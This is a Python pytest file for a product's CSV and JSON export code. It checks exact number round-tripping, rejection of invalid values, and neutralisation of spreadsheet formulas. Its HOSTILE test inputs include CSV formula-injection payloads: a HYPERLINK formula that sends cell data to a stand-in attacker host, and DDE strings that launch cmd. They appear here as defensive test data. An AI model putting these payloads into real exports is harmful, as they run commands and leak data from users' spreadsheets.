"""Every CSV the product writes: numbers read back exactly, text never runs in a spreadsheet (core.formats)."""

from __future__ import annotations

import io
import math
import random
import re
import struct
import sys
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal

import pytest

from catalog.core import formats
from catalog.core.content import csv_records
from catalog.core.errors import ValidationError
from catalog.core.formats import MAX_DEPTH, CsvWriter, csv_bytes, csv_cell, csv_text, json_bytes

from helpers import runnable_cells

# -- numbers ------------------------------------------------------------------------------------

FLOATS = {
    "satoshi": 0.00000001,
    "shib-btc": 0.00000000031,
    "sum-0.1-0.2": 0.1 + 0.2,
    "score": 85.45,
    "negative": -0.5,
    "third": 1 / 3,
    "negative-zero": -0.0,
    "smallest-subnormal": 5e-324,
    "largest": 1.7976931348623157e308,
    "1e22": 1e22,
    "2**53+2": float(2**53 + 2),
}


def _read(cell: str) -> float:
    return float(cell)


@pytest.mark.parametrize("precision", [0, 2, 6, 17])
@pytest.mark.parametrize("value", list(FLOATS.values()), ids=list(FLOATS))
def test_a_float_reads_back_as_the_same_float(value: float, precision: int) -> None:
    cell = csv_cell(value, precision, "x")
    assert _read(cell) == value and math.copysign(1, _read(cell)) == math.copysign(1, value), cell
    assert "e" not in cell.lower()  # positional: what every spreadsheet reads as a number
    assert len(cell.partition(".")[2]) >= precision  # csv_precision: at least that many decimals
    if value != 0:
        assert _read(cell) != 0  # never a non-zero turned into zero


@pytest.mark.parametrize(
    ("value", "precision", "cell"),
    [(0.00000001, 6, "0.00000001"), (0.00000000031, 6, "0.00000000031"), (85.45, 6, "85.450000"),
     (0.1 + 0.2, 6, "0.30000000000000004"), (-0.0, 6, "-0.000000"), (1 / 3, 2, "0.3333333333333333"),
     (0.5, 2, "0.50"), (1e22, 0, "10000000000000000000000"), (2.0, 0, "2"), (2**64 - 1, 6, "18446744073709551615"),
     (-(2**64 - 1), 6, "-18446744073709551615"), (2**53 + 1, 6, "9007199254740993"), (-2, 6, "-2"),
     (Decimal("0.00000000031"), 6, "0.00000000031"), (Decimal("1E+3"), 2, "1000.00"), (Decimal("-0"), 1, "-0.0"),
     (Decimal("0.1000000000000000000000001"), 6, "0.1000000000000000000000001")],
)  # fmt: skip
def test_numbers_are_written_exactly(value: float | Decimal, precision: int, cell: str) -> None:
    assert csv_cell(value, precision, "x") == cell


def test_random_floats_of_every_magnitude_round_trip_through_the_file() -> None:
    rng = random.Random(14)
    values = []
    while len(values) < 2000:
        value = struct.unpack("<d", rng.getrandbits(64).to_bytes(8, "little"))[0]
        if math.isfinite(value):
            values.append(value)
    precision = rng.randrange(18)
    data = csv_bytes([["v"], *([v] for v in values)], precision)
    assert [float(r["v"]) for r in csv_records(data)] == values


@pytest.mark.parametrize(
    ("value", "message"),
    [(10**5000, "whole number of more than 4300 digits"), (-(10**4300), "whole number of more than 4300 digits"),
     (Decimal("1E+5000"), "number of more than 4300 digits"), (Decimal("1E-5000"), "number of more than 4300 digits"),
     (Decimal("sNaN"), "non-finite number (sNaN)"), (Decimal("-Infinity"), "non-finite number (-Infinity)"),
     (float("nan"), "non-finite number (nan)"), ("BTC\ud800", "lone surrogate at character 4")],
    ids=["huge-int", "huge-negative-int", "huge-decimal", "tiny-decimal", "snan", "decimal-inf", "nan", "surrogate"],
)  # fmt: skip
def test_values_no_csv_can_hold_are_refused(value: object, message: str) -> None:
    with pytest.raises(ValidationError, match="at row 2, column 1") as caught:
        csv_bytes([["v"], [value]])
    assert message in str(caught.value)


def test_a_whole_number_of_4300_digits_is_written_whole() -> None:
    assert csv_cell(10**4299, 6, "x") == "1" + "0" * 4299


def test_the_digit_limit_holds_whatever_python_allows() -> None:
    limit = sys.get_int_max_str_digits()
    sys.set_int_max_str_digits(0)  # unlimited
    try:
        with pytest.raises(ValidationError, match="more than 4300 digits"):
            csv_cell(10**4300, 6, "x")
    finally:
        sys.set_int_max_str_digits(limit)


@pytest.mark.parametrize(
    ("value", "message"),
    [(10**5000, "whole number of more than 4300 digits at $.x"), ("a\udfff", "text at $.x with a lone surrogate"),
     ({"k\ud800": 1}, "key at $ with a lone surrogate")],
    ids=["huge-int", "surrogate", "surrogate-key"],
)  # fmt: skip
def test_json_refuses_the_same_values_cleanly(value: object, message: str) -> None:
    with pytest.raises(ValidationError, match=message.replace("$", r"\$")):
        json_bytes(value if isinstance(value, dict) else {"x": value})


def _deep(value: object, levels: int) -> object:
    for n in range(levels):
        value = [value] if n % 2 else {"k": value}
    return value


@pytest.mark.parametrize("data", [
    {"s": "BTC-USD", "f": 1.5, "i": -(10**17), "b": True, "n": None, "l": [1, "é", 2.0], "t": (1, 2)},
    {"when": datetime(2024, 2, 29, 23, 59, 58, 5, tzinfo=timezone(timedelta(hours=5))), "day": date(2024, 1, 2)},
    {"d": Decimal("0.1"), 7: "an int key", "big": 10**30, "sub": type("S", (str,), {})("text")},
    _deep({"x": 1}, MAX_DEPTH - 1),
], ids=["plain", "times", "unusual", "deep"])  # fmt: skip
def test_json_of_plain_and_unusual_data_is_the_careful_conversion(data: object) -> None:
    """Plain data takes the quick walk, anything else the careful one: both give the same JSON."""
    assert formats.jsonable(data) == formats._careful(data)
    assert json_bytes(data) == formats.json_bytes(formats._careful(data))


@pytest.mark.parametrize(("data", "place"), [
    ({"a": [1, 2, {"b": float("inf")}]}, "at $.a[2].b"),
    ({"a": [{"ok": 1}, {"when": datetime(2024, 1, 1)}]}, "time at $.a[1].when has no time zone"),
    ({"a": {"b": [None, object()]}}, "value of type object at $.a.b[1]"),
    ({"a": {(1, 2): 3}}, "key of type tuple at $.a"),
    (_deep({"x": 1}, MAX_DEPTH + 1), "nested deeper than 200 levels"),
], ids=["inf", "naive", "object", "tuple-key", "too-deep"])  # fmt: skip
def test_json_names_the_place_of_a_bad_value_deep_in_plain_data(data: object, place: str) -> None:
    with pytest.raises(ValidationError, match=re.escape(place)):
        json_bytes(data)


# -- text a spreadsheet would run -------------------------------------------------------------

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://attacker.invalid/?x="&A1,"BTC-USD")',
    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus-symbol": "-X",
    "minus-formula": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "space-then-equals": "  =1+1",
    "full-width-equals": "＝1+1",
    "full-width-plus": "＋1",
    "full-width-minus": "－X",
    "full-width-at": "＠SUM(1)",
    "small-equals": "﹦1+1",
    "already-quoted": "'=1+1",
    "apostrophe": "'plain",
    "cr-inside": "BTC\r=1+1",
    "lf-inside": 'BTC\n=HYPERLINK("x")',
    "quote-comma": '"=1+1",=2+2',
}


@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_text_is_shown_never_run_and_reads_back_as_given(text: str) -> None:
    data = csv_bytes([["symbol", "n"], [text, -1]])
    assert runnable_cells(data) == []
    assert csv_records(data) == [{"symbol": text, "n": "-1"}]


@pytest.mark.parametrize("text", list(HOSTILE.values())[:13], ids=list(HOSTILE)[:13])
def test_a_formula_cell_gets_one_leading_apostrophe(text: str) -> None:
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["BTC-USD", "", "plain text", "-0.5", "+3", "1e-8", "-1E+5", " -2 ", ".5", "2024-01-15T10:30:00Z", "a=b", "x@y"]
)  # fmt: skip
def test_safe_text_and_numbers_written_as_text_are_unchanged(text: str) -> None:
    assert csv_text(text) == text


def test_numbers_the_product_formats_are_never_neutralised() -> None:
    row = [-0.5, -2, -0.0, Decimal("-1.5"), -(2**64 - 1), -1e-8]
    line = csv_bytes([row]).decode()
    assert line == "-0.500000,-2,-0.000000,-1.500000,-18446744073709551615,-0.00000001\n"
    assert "'" not in line and runnable_cells(line) == []


def test_a_bare_carriage_return_is_quoted_so_no_row_is_split() -> None:
    data = csv_bytes([["a", "b"], ["X\r=1+1", "y"]])
    assert data == b'a,b\n"X\r=1+1",y\n'
    out = io.StringIO()
    CsvWriter(out).writerow(["X\rY", "z"])
    assert out.getvalue() == '"X\rY",z\n'


def test_csv_records_refuses_what_is_not_a_product_csv() -> None:
    with pytest.raises(ValidationError, match="t row 2 has 1 cells; the header has 2"):
        csv_records(b"a,b\n1,2\n3\n", "t")
    with pytest.raises(ValidationError, match="t is empty"):
        csv_records(b"", "t")
    with pytest.raises(ValidationError, match="t is not valid CSV"):
        csv_records(b'a\n"open\n', "t")
    with pytest.raises(ValidationError, match="t is not valid UTF-8"):
        csv_records(b"a\n\xff\n", "t")
